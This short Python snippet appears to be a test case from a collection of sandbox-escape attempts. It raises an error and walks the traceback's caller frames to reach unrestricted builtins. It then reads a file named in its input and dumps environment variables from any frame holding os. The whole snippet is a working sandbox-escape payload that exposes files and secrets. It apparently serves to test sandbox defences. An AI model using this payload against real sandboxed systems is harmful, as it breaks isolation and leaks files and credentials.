# Tries: the frames of who called the program, by the traceback of an error that it raised itself.
# Origin: pyjail collections: tb_frame.f_back.f_builtins.

found = []
try:
    1 / 0
except ZeroDivisionError as error:
    frame = error.__traceback__.tb_frame
    while frame:
        found.append(frame.f_code.co_filename)
        found.append(frame.f_builtins["open"](input["file"]).read())
        for name, module in list(frame.f_globals.items()):
            if name == "os":
                found.append(str(dict(module.environ)))
        frame = frame.f_back
found
